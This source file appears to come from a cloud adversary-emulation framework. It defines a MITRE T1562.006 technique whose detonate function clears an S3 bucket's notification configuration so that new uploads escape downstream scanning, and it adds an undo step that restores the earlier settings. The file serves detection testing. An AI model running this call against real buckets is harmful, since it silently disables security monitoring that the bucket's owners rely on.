import { z } from 'zod';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ bucket: z.string().min(3).max(63) });

/** The bucket takes everything as before, and tells nobody. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'defense-evasion.notification-removed',
  title: 'Remove the notifications of a bucket',
  purpose: 'Whatever is uploaded from now on is never examined.',
  mitre: ['T1562.006'],
  sources: [
    {
      title: 'Impair Defenses: Indicator Blocking, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1562/006/',
    },
    {
      title: 'PutBucketNotificationConfiguration, Amazon S3 API Reference',
      url: 'https://docs.aws.amazon.com/AmazonS3/latest/API/API_PutBucketNotificationConfiguration.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bucket: { notifies: true }, function: true, queue: true },
  needs: ['s3:PutBucketNotification'],
  leaves: [{ service: 's3.amazonaws.com', name: 'PutBucketNotification', outcome: 'succeeds' }],
  repeatable: true,
  async detonate({ inputs: { bucket }, aws, say }) {
    say(`Remove the notifications of ${bucket}`);
    await aws.s3().putBucketNotificationConfiguration({
      Bucket: bucket,
      NotificationConfiguration: {},
    });
  },
  undo: {
    kind: 'call',
    async plan({ inputs: { bucket: Bucket }, aws }) {
      const { $metadata: _, ...NotificationConfiguration } = await aws
        .s3()
        .getBucketNotificationConfiguration({ Bucket });
      return async () => {
        await aws.s3().putBucketNotificationConfiguration({ Bucket, NotificationConfiguration });
      };
    },
  },
};
